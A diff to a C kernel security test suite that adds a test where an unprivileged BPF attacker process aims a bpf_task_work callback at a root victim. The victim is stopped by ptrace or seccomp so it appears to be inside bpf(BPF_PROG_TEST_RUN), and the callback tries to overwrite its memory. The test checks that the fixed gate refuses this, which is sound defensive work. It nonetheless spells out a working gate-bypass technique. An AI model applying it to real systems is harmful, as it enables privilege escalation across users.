@@ -30,7 +30,10 @@
  *    kfuncs, which would run with a kworker's credentials: -EPERM each,
  *    a root victim's memory unchanged, no PFN;
  *  - bpf_task_work (7.x): the callback runs in the victim, whose own memory
- *    needs no privilege: -EPERM, the memory unchanged;
+ *    needs no privilege: -EPERM, the memory unchanged; also when the
+ *    victim's registers read as inside bpf(BPF_PROG_TEST_RUN) (stopped by
+ *    ptrace at that call's entry, or past a bpf() that seccomp made fail
+ *    with ENOSYS);
  *  - bpf_timer: the callback runs in softirq, where a memory kfunc would
  *    sleep: refused every time and nothing in the kernel log (or the
  *    verifier refuses the program: safe too).
@@ -59,10 +62,15 @@
 #include <sys/klog.h>
 #include <sys/mman.h>
 #include <sys/prctl.h>
+#include <sys/ptrace.h>
 #include <sys/socket.h>
 #include <sys/syscall.h>
 #include <sys/uio.h>
+#include <sys/user.h>
 #include <sys/wait.h>
+#include <linux/audit.h>
+#include <linux/filter.h>
+#include <linux/seccomp.h>
 #include <bpf/bpf.h>
 #include <bpf/btf.h>
 #include <bpf/libbpf.h>
@@ -80,6 +88,7 @@
 #include "attacks_iter.lskel.h"
 #include "attacks_tail.lskel.h"
 #include "attacks_tailcb.lskel.h"
+#include "attacks_twptrace.lskel.h"
 #include "attacks_rcu.lskel.h"
 #include "attacks_preempt.lskel.h"
 
@@ -1812,6 +1821,244 @@ static void test_taskwork(void)
 	   (unsigned long long)after);
 }
 
+/* ---- bpf_task_work at a victim whose registers say "inside bpf()" (7.x) ------ */
+
+enum twv_mode { TWV_SECCOMP_TRACE, TWV_SECCOMP_ENOSYS, TWV_ENTRY, TWV_NR };
+
+/* bpf(BPF_PROG_TEST_RUN): RET_TRACE (a tracer's seccomp stop) or ERRNO(ENOSYS). */
+static int twv_filter(int mode)
+{
+	unsigned int act = mode == TWV_SECCOMP_TRACE ? SECCOMP_RET_TRACE :
+			   SECCOMP_RET_ERRNO | ENOSYS;
+	struct sock_filter f[] = {
+		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, arch)),
+		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, AUDIT_ARCH_X86_64, 1, 0),
+		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
+		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
+		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, __NR_bpf, 0, 3),
+		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[0])),
+		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, BPF_PROG_TEST_RUN, 0, 1),
+		BPF_STMT(BPF_RET | BPF_K, act),
+		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
+	};
+	struct sock_fprog p = { sizeof(f) / sizeof(f[0]), f };
+
+	return syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &p);
+}
+
+/*
+ * The victim (root): a program of its own, the seccomp filter of its
+ * mode, then, traced by its parent, bpf(BPF_PROG_TEST_RUN) on that
+ * program and getppid() (the tracer's cue to look at its memory).
+ */
+static void twv_victim(int mode)
+{
+	struct bpf_insn ret0[] = {
+		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0, .imm = 0 },
+		{ .code = BPF_JMP | BPF_EXIT },
+	};
+	LIBBPF_OPTS(bpf_prog_load_opts, o, .prog_flags = BPF_F_SLEEPABLE);
+	union bpf_attr attr;
+	int fd;
+
+	prctl(PR_SET_PDEATHSIG, SIGKILL);
+	fd = bpf_prog_load(BPF_PROG_TYPE_SYSCALL, "twvictim", "GPL", ret0, 2, &o);
+	if (fd < 0)
+		_exit(3);
+	if (mode != TWV_ENTRY && twv_filter(mode))
+		_exit(4);
+	if (ptrace(PTRACE_TRACEME, 0, 0, 0))
+		_exit(5);
+	raise(SIGSTOP);
+	memset(&attr, 0, sizeof(attr));
+	attr.test.prog_fd = fd;
+	syscall(__NR_bpf, BPF_PROG_TEST_RUN, &attr, sizeof(attr));
+	syscall(SYS_getppid);
+	_exit(0);
+}
+
+/*
+ * The attacker: uid 65534, CAP_BPF + CAP_PERFMON.  Loads, says 'L'; on a
+ * victim pid from the tracer schedules the callback there, says 'S'; on 0,
+ * reports into sh and says 'D'.
+ */
+static int twv_attacker(int in, int out)
+{
+	struct attacks_twptrace *s;
+	int32_t vic;
+
+	if (drop_to_nobody(BPF_CAPS)) {
+		write(out, "E", 1);
+		return 2;
+	}
+	s = LOAD_LSKEL(attacks_twptrace, &sh->load_err);
+	if (!s) {
+		write(out, "E", 1);
+		return 3;
+	}
+	write(out, "L", 1);
+	while (read(in, &vic, sizeof(vic)) == sizeof(vic) && vic) {
+		s->bss->victim = vic;
+		s->bss->victim_addr = (uintptr_t)&secret;
+		s->bss->val = EVIL;
+		s->bss->mode = TW_SIGNAL;
+		sh->prog_ret = run_prog(s->progs.go.prog_fd);
+		sh->r[0] = s->bss->ret_sched;
+		write(out, "S", 1);
+	}
+	wait_flag(&s->bss->async_ran, 1);
+	sh->ran = s->bss->async_ran;
+	sh->u[0] = s->bss->ran_tgid;
+	sh->r[1] = s->bss->ret_begin;
+	sh->r[2] = s->bss->ret_write;
+	attacks_twptrace__destroy(s);
+	write(out, "D", 1);
+	return 0;
+}
+
+struct twv_res {
+	int fired, vstatus;
+	uint64_t after;
+	const char *why;
+};
+
+/* Let the attacker schedule its callback at the victim, stopped now. */
+static int twv_fire(int go, int back, pid_t vic)
+{
+	int32_t p = vic;
+	char c = 0;
+
+	if (write(go, &p, sizeof(p)) != sizeof(p) || read(back, &c, 1) != 1 || c != 'S')
+		return 0;
+	usleep(50000);		/* the irq_work that queues the task_work */
+	return 1;
+}
+
+static void twv_run(int mode, struct twv_res *res)
+{
+	int go[2], back[2], st, entered_bpf = 0;
+	int32_t zero = 0;
+	pid_t att, vic;
+	char c = 0;
+
+	memset(sh, 0, sizeof(*sh));
+	memset(res, 0, sizeof(*res));
+	if (pipe(go) || pipe(back)) {
+		res->why = "pipe failed";
+		return;
+	}
+	att = fork();
+	if (att == 0)
+		_exit(twv_attacker(go[0], back[1]));
+	if (read(back[0], &c, 1) != 1 || c != 'L') {
+		res->why = "the uid 65534 attacker could not load attacks_twptrace";
+		wait_status(att);
+		return;
+	}
+	vic = fork();
+	if (vic == 0)
+		twv_victim(mode);
+	if (waitpid(vic, &st, 0) != vic || !WIFSTOPPED(st)) {
+		res->why = "the victim did not stop for its tracer";
+		goto out;
+	}
+	ptrace(PTRACE_SETOPTIONS, vic, 0, PTRACE_O_TRACESYSGOOD | PTRACE_O_TRACESECCOMP |
+	       PTRACE_O_EXITKILL);
+	ptrace(PTRACE_SYSCALL, vic, 0, 0);
+	while (waitpid(vic, &st, __WALL) == vic) {
+		int sig = 0;
+
+		if (WIFEXITED(st) || WIFSIGNALED(st)) {
+			res->vstatus = st;
+			break;
+		}
+		if (WSTOPSIG(st) == (SIGTRAP | 0x80)) {
+			struct __ptrace_syscall_info si;
+
+			memset(&si, 0, sizeof(si));
+			ptrace(PTRACE_GET_SYSCALL_INFO, vic, sizeof(si), &si);
+			if (si.op == PTRACE_SYSCALL_INFO_ENTRY) {
+				entered_bpf = si.entry.nr == __NR_bpf &&
+					      si.entry.args[0] == BPF_PROG_TEST_RUN;
+				if (entered_bpf && mode != TWV_SECCOMP_ENOSYS && !res->fired)
+					res->fired = twv_fire(go[1], back[0], vic);
+				if (si.entry.nr == SYS_getppid && res->fired)
+					res->after = victim_secret(vic);
+			} else if (si.op == PTRACE_SYSCALL_INFO_EXIT && entered_bpf &&
+				   mode == TWV_SECCOMP_ENOSYS && !res->fired &&
+				   si.exit.rval == -ENOSYS) {
+				res->fired = twv_fire(go[1], back[0], vic);
+			}
+		} else if ((st >> 8) != (SIGTRAP | (PTRACE_EVENT_SECCOMP << 8)) &&
+			   WSTOPSIG(st) != SIGSTOP) {
+			sig = WSTOPSIG(st);
+		}
+		ptrace(PTRACE_SYSCALL, vic, 0, sig);
+	}
+	if (!res->fired)
+		res->why = "the victim never reached bpf(BPF_PROG_TEST_RUN)";
+out:
+	kill(vic, SIGKILL);
+	waitpid(vic, NULL, 0);
+	if (write(go[1], &zero, sizeof(zero)) == sizeof(zero))
+		read(back[0], &c, 1);
+	wait_status(att);
+	close(go[0]);
+	close(go[1]);
+	close(back[0]);
+	close(back[1]);
+}
+
+/*
+ * The old gate took "orig_ax = __NR_bpf, di = BPF_PROG_TEST_RUN,
+ * ax = -ENOSYS" as proof of being inside that call.  A task stopped by
+ * ptrace at the call's entry runs pending task_work at its next ptrace
+ * notification (here the seccomp RET_TRACE stop, before the call does
+ * anything), and a bpf() that seccomp fails with ENOSYS leaves the same
+ * registers when task_work runs on the way out: a bpf_task_work callback
+ * aimed at such a victim ran as the victim and passed.  The token must
+ * be refused there (the victim's attr names its own program).
+ */
+static void test_twptrace(void)
+{
+	static const char *const how[TWV_NR] = {
+		"stopped by ptrace at the entry of bpf(BPF_PROG_TEST_RUN), then a seccomp "
+		"RET_TRACE stop",
+		"past a bpf(BPF_PROG_TEST_RUN) its own seccomp filter failed with ENOSYS",
+		"stopped by ptrace at the entry of bpf(BPF_PROG_TEST_RUN), no seccomp",
+	};
+	struct twv_res res;
+	char name[300];
+	int m;
+
+	for (m = 0; m < TWV_NR; m++) {
+		snprintf(name, sizeof(name), "bpf_task_work at a victim %s", how[m]);
+		if (!kernel_has("bpf_task_work_schedule_signal")) {
+			tap_skip("this kernel has no bpf_task_work (7.x)", "%s", name);
+			continue;
+		}
+		twv_run(m, &res);
+		if (res.why) {
+			char why[200];
+
+			snprintf(why, sizeof(why), "%s (status 0x%x, load %s)", res.why, res.vstatus,
+				 sh->load_err ? strerror(-sh->load_err) : "ok");
+			tap_skip(why, "%s", name);
+			continue;
+		}
+		diag("%s: scheduling %lld, callback ran %d times as tgid %llu", how[m],
+		     (long long)sh->r[0], sh->ran, (unsigned long long)sh->u[0]);
+		if (!sh->ran) {
+			tap_skip("the task_work callback never ran", "%s", name);
+			continue;
+		}
+		ok((pid_t)sh->u[0] > 0 && sh->r[1] == -EPERM && res.after == SECRET,
+		   "%s: the callback, run as the victim, gets no token (%lld) and the victim's "
+		   "memory is unchanged (0x%llx)", name, (long long)sh->r[1],
+		   (unsigned long long)res.after);
+	}
+}
+
 /* ---- bpf_timer ------------------------------------------------------------------- */
 
 /* Does a bpf_timer in a syscall program run here at all? */
@@ -1942,6 +2189,7 @@ int main(void)
 	bounded("tail call from a callback", 120, test_tailcb);
 	bounded("bpf_wq", 120, test_wq);
 	bounded("bpf_task_work", 120, test_taskwork);
+	bounded("bpf_task_work at a victim inside bpf()", 240, test_twptrace);
 	bounded("bpf_timer", 180, test_timer);
 	vmem_close(v);
 	return tap_finish();
